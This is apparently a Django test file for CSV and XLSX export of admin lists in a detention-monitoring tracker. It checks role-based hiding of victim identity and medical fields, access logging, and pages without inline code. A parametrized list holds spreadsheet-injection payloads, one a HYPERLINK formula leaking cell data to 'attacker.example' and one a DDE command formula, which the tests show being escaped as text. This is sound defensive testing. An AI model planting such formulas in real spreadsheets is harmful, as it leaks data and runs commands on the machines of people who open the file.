"""Exporting admin lists to CSV and XLSX: only what the user sees, identity only where the role
shows it, every export in the access log, and pages without inline code."""

import csv
import io
import re
from datetime import date

import pytest
from django.contrib import admin
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from cases.tests.factories import make_allegation
from conftest import make_staff
from facilities.models import FacilityType
from facilities.tests.factories import make_facility
from npm_tracker.core.models import AccessChannel, AccessLog
from npm_tracker.core.spreadsheets import SpreadsheetExportMixin, SpreadsheetImportMixin
from npm_tracker.tests.test_roles import (  # noqa: F401 - the fixture
    ADMIN_ACCESS,
    ADMIN_ADD,
    check_admin_pages,
    world,
)

CSV, XLSX = "0", "1"
NAME = "Айдана Экспортная"


def export(user, model, file_format=CSV, query=""):
    client = Client()
    client.force_login(user)
    app_label, model_name = model.split(".")
    url = reverse(f"admin:{app_label}_{model_name}_export") + query
    return client.post(url, {"resource": "0", "format": file_format})


def csv_rows(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def xlsx_rows(response):
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def officer(reference):
    return make_staff("kz-officer", "KZ", roles=("case_officer",), direct_permissions=False)


@pytest.fixture
def auditor(reference):
    return make_staff("kz-auditor", "KZ", roles=("auditor",), direct_permissions=False)


@pytest.fixture
def facilities(reference):
    return {
        "kz": make_facility("KZ", name="ИВС Караганды"),
        "kz2": make_facility("KZ", name="СИЗО Темиртау"),
        "kg": make_facility("KG", name="ИВС Бишкека"),
    }


@pytest.mark.django_db
def test_a_case_officer_exports_the_facilities_of_their_country_only(officer, facilities):
    rows = csv_rows(export(officer, "facilities.facility"))
    assert sorted(row["name"] for row in rows) == ["ИВС Караганды", "СИЗО Темиртау"]
    assert {row["country"] for row in rows} == {"Kazakhstan"}
    # Human columns: vocabularies by name, in the user's language.
    assert rows[0]["type"] == "Temporary detention facility (IVS)"

    rows = xlsx_rows(export(officer, "facilities.facility", XLSX))
    assert sorted(row["name"] for row in rows) == ["ИВС Караганды", "СИЗО Темиртау"]


@pytest.mark.django_db
def test_the_export_follows_the_lists_search(officer, facilities):
    rows = csv_rows(export(officer, "facilities.facility", query="?q=Темиртау"))
    assert [row["name"] for row in rows] == ["СИЗО Темиртау"]


@pytest.mark.django_db
def test_every_export_is_logged_one_row_per_record(officer, facilities):
    export(officer, "facilities.facility", XLSX)

    log = AccessLog.objects.filter(user=officer, channel=AccessChannel.EXPORT)
    assert sorted(log.values_list("object_id", flat=True)) == sorted(
        [facilities["kz"].pk, facilities["kz2"].pk]
    )
    assert {(e.what, e.country.code, e.object_type) for e in log} == {
        ("record", "KZ", "facilities.facility")
    }
    assert all(e.path == reverse("admin:facilities_facility_export") for e in log)


@pytest.mark.django_db
def test_shared_vocabulary_items_are_logged_under_the_users_country(officer):
    rows = csv_rows(export(officer, "facilities.facilitytype"))
    shared = FacilityType.objects.filter(country__isnull=True).count()
    assert len(rows) >= shared > 0
    log = AccessLog.objects.filter(user=officer, channel=AccessChannel.EXPORT)
    assert log.count() == len(rows)
    assert set(log.values_list("country__code", flat=True)) == {"KZ"}


@pytest.fixture
def allegations(officer, facilities):
    victim = {"full_name": NAME, "date_of_birth": date(1990, 5, 17)}
    return {
        "mine": make_allegation(
            facility=facilities["kz"],
            assigned_officer=officer,
            victim=victim,
            injuries="Bruises on both wrists.",
        ),
        "other": make_allegation(facility=facilities["kz"], victim=victim),
        "kg": make_allegation("KG", victim=victim),
    }


@pytest.mark.django_db
def test_an_identity_role_exports_identities_and_each_person_is_logged(officer, allegations):
    rows = csv_rows(export(officer, "cases.allegation"))

    # A case officer sees the allegations assigned to them only.
    assert [row["reference"] for row in rows] == [allegations["mine"].reference]
    (row,) = rows
    assert row["victim_full_name"] == NAME
    assert row["victim_date_of_birth"] == "1990-05-17"
    assert row["injuries"] == "Bruises on both wrists."
    (entry,) = AccessLog.objects.filter(channel=AccessChannel.EXPORT)
    assert (entry.user, entry.object_id, entry.allegation_id) == (
        officer,
        allegations["mine"].pk,
        allegations["mine"].pk,
    )
    assert entry.what == "medical,identity"


@pytest.mark.django_db
def test_a_role_without_identity_exports_neither_identity_nor_medical_data(auditor, allegations):
    for file_format in (CSV, XLSX):
        response = export(auditor, "cases.allegation", file_format)
        rows = csv_rows(response) if file_format == CSV else xlsx_rows(response)
        assert len(rows) == 2  # the auditor sees every allegation of KZ
        assert not {"victim_full_name", "victim_date_of_birth", "injuries"} & set(rows[0])
        assert {row["victim_pseudonym"] for row in rows} == {
            allegations["mine"].victim.pseudonym,
            allegations["other"].victim.pseudonym,
        }
        assert NAME.encode() not in response.content
        assert b"Bruises" not in response.content
    log = AccessLog.objects.filter(channel=AccessChannel.EXPORT)
    assert log.count() == 4 and set(log.values_list("what", flat=True)) == {"record"}


@pytest.mark.django_db
def test_a_monitor_exports_the_identity_of_the_allegations_assigned_to_them_only(
    reference, facilities
):
    monitor = make_staff("kz-monitor", "KZ", roles=("monitor",), direct_permissions=False)
    victim = {"full_name": NAME}
    assigned = make_allegation(facility=facilities["kz"], assigned_officer=monitor, victim=victim)
    entered = make_allegation(facility=facilities["kz"], actor=monitor, victim=victim)

    rows = {row["reference"]: row for row in csv_rows(export(monitor, "cases.allegation"))}

    assert set(rows) == {assigned.reference, entered.reference}
    assert rows[assigned.reference]["victim_full_name"] == NAME
    assert rows[entered.reference]["victim_full_name"] == ""
    log = dict(AccessLog.objects.values_list("object_id", "what"))
    assert log == {assigned.pk: "identity", entered.pk: "record"}


def exportable(table):
    """The models of ``table`` whose admin list exports (every domain list does)."""
    return {
        label: roles
        for label, roles in table.items()
        if isinstance(_admin_of(label), SpreadsheetExportMixin)
    }


def importable(table):
    return {
        label: roles
        for label, roles in table.items()
        if isinstance(_admin_of(label), SpreadsheetImportMixin)
    }


def _admin_of(label):
    return next(a for m, a in admin.site._registry.items() if m._meta.label_lower == label)


def test_every_domain_list_exports_and_three_import():
    assert len(exportable(ADMIN_ACCESS)) >= 25
    assert set(importable(ADMIN_ACCESS)) == {
        "facilities.facility",
        "facilities.visit",
        "facilities.recommendation",
    }


@pytest.mark.django_db
def test_every_role_exports_exactly_the_lists_it_opens(world):  # noqa: F811
    check_admin_pages(world, exportable(ADMIN_ACCESS), "export")


@pytest.mark.django_db
def test_every_role_imports_exactly_where_it_adds(world):  # noqa: F811
    check_admin_pages(world, importable(ADMIN_ADD), "import")


@pytest.mark.django_db
def test_export_without_permission_is_refused_and_not_logged(reference, facilities):
    sysadmin = make_staff("sysadmin", "KZ", roles=("sysadmin",), direct_permissions=False)
    analyst = make_staff("analyst", "KZ", roles=("analyst",), direct_permissions=False)
    assert export(sysadmin, "facilities.facility").status_code == 403
    assert export(analyst, "cases.allegation").status_code == 403
    assert not AccessLog.objects.exists()


INLINE = (
    re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I),
    re.compile(r"<style\b", re.I),
    re.compile(r"\sstyle=", re.I),
    re.compile(r"\son[a-z]+=", re.I),
)


def assert_no_inline_code(response):
    assert response.status_code == 200
    assert "script-src 'self'" in response["Content-Security-Policy"]
    page = response.content.decode()
    found = [m.group(0) for pattern in INLINE for m in pattern.finditer(page)]
    assert not found, found


@pytest.mark.django_db
def test_import_and_export_pages_have_no_inline_code(reference, facilities):
    from django.core.files.uploadedfile import SimpleUploadedFile

    head = make_staff("kz-head", "KZ")
    client = Client()
    client.force_login(head)
    assert_no_inline_code(client.get(reverse("admin:facilities_facility_changelist")))
    assert_no_inline_code(client.get(reverse("admin:facilities_facility_export")))
    assert_no_inline_code(client.get(reverse("admin:facilities_facility_import")))
    # Previews: one with an error, one valid that offers to confirm (with an update's diff).
    kz = facilities["kz"]
    for cells in (
        "name,country,region,type,agency,capacity\nИВС,KZ,Atlantis,ivs,kz_mvd,5\n",
        f"id,name,country,region,type,agency,capacity\n{kz.pk},ИВС Караганды,KZ,"
        f"{kz.region.code},ivs,kz_mvd,35\n",
    ):
        upload = SimpleUploadedFile("f.csv", cells.encode(), content_type="text/csv")
        response = client.post(
            reverse("admin:facilities_facility_import"),
            {"resource": "0", "format": CSV, "import_file": upload},
        )
        assert_no_inline_code(response)
    assert "<del>20</del> <ins>35</ins>" in response.content.decode()


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1+1",
    "\rCR=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_texts_that_begin_like_formulas_are_exported_as_text(reference, text):
    make_facility(name=text)
    head = make_staff("kz-head-formulas", "KZ")
    names = [row["name"] for row in csv_rows(export(head, "facilities.facility"))]
    assert names == ["'" + text]
    workbook = load_workbook(io.BytesIO(export(head, "facilities.facility", XLSX).content))
    sheet = workbook.active
    column = [c.value for c in next(sheet.iter_rows(max_row=1))].index("name") + 1
    cell = sheet.cell(row=2, column=column)
    # (XML keeps a carriage return as a line feed)
    assert cell.data_type == "s" and cell.value == "'" + text.replace("\r", "\n")


def test_a_negative_number_stays_a_number_and_control_characters_do_not_break_xlsx(reference):
    from npm_tracker.core.spreadsheets.resources import safe_cell

    assert safe_cell("-12.5") == "-12.5" and safe_cell(-3) == -3
    make_facility(name="ИВС\x01 № 2\x1f", address="ул. Абая\x0b 1")
    head = make_staff("kz-head-control", "KZ")
    response = export(head, "facilities.facility", XLSX)
    rows = xlsx_rows(response)
    assert rows[0]["name"] == "ИВС № 2"
